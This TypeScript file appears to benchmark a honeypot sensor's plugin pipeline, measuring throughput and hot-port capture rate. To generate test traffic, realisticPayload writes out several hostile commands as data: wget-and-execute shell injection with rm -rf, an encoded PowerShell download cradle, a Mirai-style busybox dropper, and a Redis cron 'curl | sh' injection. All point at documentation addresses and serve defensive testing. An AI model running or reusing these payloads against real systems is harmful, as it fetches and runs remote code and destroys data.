import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { performance } from 'node:perf_hooks'
import Database from 'better-sqlite3'
import pino from 'pino'
import type { Attack } from '../attack/attack.js'
import { loadConfig } from '../config/load-config.js'
import { createUlid } from '../core/ids.js'
import { pipelineSettings } from '../plugins/pipeline-settings.js'
import { replayAttacks } from '../plugins/replay.js'
import { createSqliteStore } from '../store/sqlite-store.js'
import { readProcUsage } from './proc-usage.js'
import { alternateRounds, BENCH_LIMITS_YAML, hotScenario, type HotFigures, type Rounds, type ScenarioContext } from './scenarios.js'

/**
 * (e) The plugin pipeline: its throughput through decode and analyze with the downloaders off (the default plugin
 * list), measured offline on generated attacks; and the sensor's hot-port capture rate while its pipeline works
 * through a backlog, against the same sensor with the pipeline off, in alternating rounds.
 */

export interface PipelineFigures {
  readonly throughput: {
    readonly attacks: number
    readonly seconds: number
    readonly attacksPerSecond: number
    readonly runs: number
    readonly failed: number
    readonly cpuPct: number // this process (host + plugin worker), in % of one CPU
  }
  readonly capture: {
    readonly off: HotFigures & Rounds
    readonly on: HotFigures & Rounds
    readonly backlogAtEnd: readonly number[] // attacks still waiting for the plugins when each "on" round ended
    readonly processed: readonly number[] // attacks the pipeline finished during each "on" round
  }
}

/** A mix of what sensors on the internet receive, each variant with a few random bytes so no two are identical. */
export function realisticPayload(i: number): Buffer {
  const r = randomBytes(4).toString('hex')
  const host = `203.0.113.${i % 250}`
  switch (i % 6) {
    case 0:
      return Buffer.from(`GET /shell?cd+/tmp;rm+-rf+*;wget+http://${host}/bins/x86.${r};chmod+777+*;./x86.${r}+jaws HTTP/1.1\r\nHost: 192.0.2.1:80\r\nAuthorization: Basic ${Buffer.from(`admin:${r}`).toString('base64')}\r\nUser-Agent: Hello, world\r\n\r\n`)
    case 1: {
      const command = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${host}/a${r}.ps1')`, 'utf16le').toString('base64')
      return Buffer.from(`POST /index.php HTTP/1.1\r\nHost: 192.0.2.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200\r\n\r\ncmd=powershell.exe -nop -w hidden -enc ${command}`)
    }
    case 2:
      return Buffer.concat([Buffer.from('00000085ff534d4272000000001853c8', 'hex'), randomBytes(32), Buffer.from(`\\\\192.0.2.1\\IPC$ ${r}`, 'utf16le'), randomBytes(64)])
    case 3:
      return Buffer.from(`root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n/bin/busybox wget http://${host}:8080/mirai.${r} -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.x86\r\n`)
    case 4: {
      // Shellcode-like bytes with a URL XOR-encoded under a one-byte key.
      const url = Buffer.from(`http://${host}/s${r}.exe`).map((b) => b ^ 0x5a)
      return Buffer.concat([randomBytes(300 + (i % 700)), url, randomBytes(200)])
    }
    default:
      return Buffer.from(`*1\r\n$4\r\nINFO\r\n*3\r\n$3\r\nSET\r\n$4\r\ncron\r\n$60\r\n\n*/1 * * * * curl -fsSL http://${host}/${r}.sh | sh\n\r\n`)
  }
}

export function attackOf(i: number, payload: Buffer): Attack {
  const now = Date.now()
  return {
    id: createUlid(now),
    protocol: 'tcp',
    family: 4,
    mode: 'normal',
    source: { address: `198.51.100.${1 + (i % 200)}`, port: 40_000 + (i % 20_000) },
    target: { address: '192.0.2.1', port: [80, 8080, 445, 23, 6379][i % 5]! },
    startedAtMs: now,
    endedAtMs: now + 20,
    closeReason: 'peer-closed',
    payload,
    truncated: false,
    bytesReceived: payload.length,
    bytesSent: 0,
    response: Buffer.alloc(0),
    responseTruncated: false,
    transcript: [{ direction: 'in', offsetMs: 0, size: payload.length }],
    transcriptTruncated: false,
    relay: null,
    synFacts: null,
  }
}

async function throughput(ctx: ScenarioContext): Promise<PipelineFigures['throughput']> {
  const dbPath = join(ctx.dir, 'pipeline-throughput.db')
  const attacks = ctx.quick ? 2_000 : 20_000
  const store = await createSqliteStore({ path: dbPath, batchWindowMs: 50, batchMaxAttacks: 500, maxQueuedAttacks: attacks, maxQueuedBytes: 1024 ** 3, log: pino({ level: 'warn' }) })
  for (let i = 0; i < attacks; i++) store.enqueue(attackOf(i, realisticPayload(i)))
  await store.close()
  const configPath = join(ctx.dir, 'pipeline-throughput.yaml')
  writeFileSync(configPath, `store: { path: ${JSON.stringify(dbPath)} }\nlog: { level: warn }\n`) // the default plugin list
  ctx.progress(`pipeline throughput: ${attacks} attacks through the default plugins`)
  const before = readProcUsage(process.pid)
  const started = performance.now()
  const summary = await replayAttacks({ settings: pipelineSettings(loadConfig(configPath)), filter: {}, log: pino({ level: 'warn' }) })
  const seconds = (performance.now() - started) / 1_000
  const cpuMs = readProcUsage(process.pid).cpuMs - before.cpuMs
  return { attacks: summary.attacks, seconds, attacksPerSecond: summary.attacks / seconds, runs: summary.runs, failed: summary.failed + summary.timeouts + summary.crashes, cpuPct: cpuMs / 10 / seconds }
}

/** How many attacks wait for the plugins, and how many they finished, in a sensor database after its run. */
function pipelineProgress(dbPath: string): { backlog: number; processed: number } {
  const db = new Database(dbPath, { readonly: true, fileMustExist: true })
  try {
    const last = (db.prepare('SELECT max(rowid) AS n FROM attacks').get() as { n: number | null }).n ?? 0
    const cursor = (db.prepare("SELECT value FROM pipeline_state WHERE key = 'cursor'").get() as { value: number } | undefined)?.value ?? 0
    const processed = (db.prepare('SELECT count(DISTINCT attack_id) AS n FROM plugin_runs').get() as { n: number }).n
    return { backlog: last - cursor, processed }
  } finally {
    db.close()
  }
}

export async function pipelineScenario(ctx: ScenarioContext, templatesDir: string): Promise<PipelineFigures> {
  const t = await throughput(ctx)
  // The same sensor config as (a), once with the pipeline off and once with it on (its default plugin list).
  const config = (plugins: string): string => [BENCH_LIMITS_YAML, `responder: { idleTimeoutMs: 60000, templatesDir: ${JSON.stringify(templatesDir)} }`, plugins, ''].join('\n')
  const offPath = join(ctx.dir, 'plugins-off.yaml')
  const onPath = join(ctx.dir, 'plugins-on.yaml')
  writeFileSync(offPath, config('plugins: { enabled: false }'))
  writeFileSync(onPath, config('plugins: { enabled: true }'))
  const backlogAtEnd: number[] = []
  const processed: number[] = []
  // alternateRounds names its two sides reference and honeytrap-ts; here they are the pipeline off and on.
  const rounds = await alternateRounds(ctx.quick ? 1 : 3, async (side) => {
    const on = side === 'honeytrap-ts'
    const figures = await hotScenario('honeytrap-ts', { ...ctx, configPath: on ? onPath : offPath, progress: (line) => ctx.progress(`${line} (plugins ${on ? 'on' : 'off'})`) })
    if (on) {
      const progress = pipelineProgress(join(ctx.dir, 'hot-honeytrap-ts.db'))
      backlogAtEnd.push(progress.backlog)
      processed.push(progress.processed)
    }
    return figures
  })
  return { throughput: t, capture: { off: rounds.reference, on: rounds.honeytrap, backlogAtEnd, processed } }
}
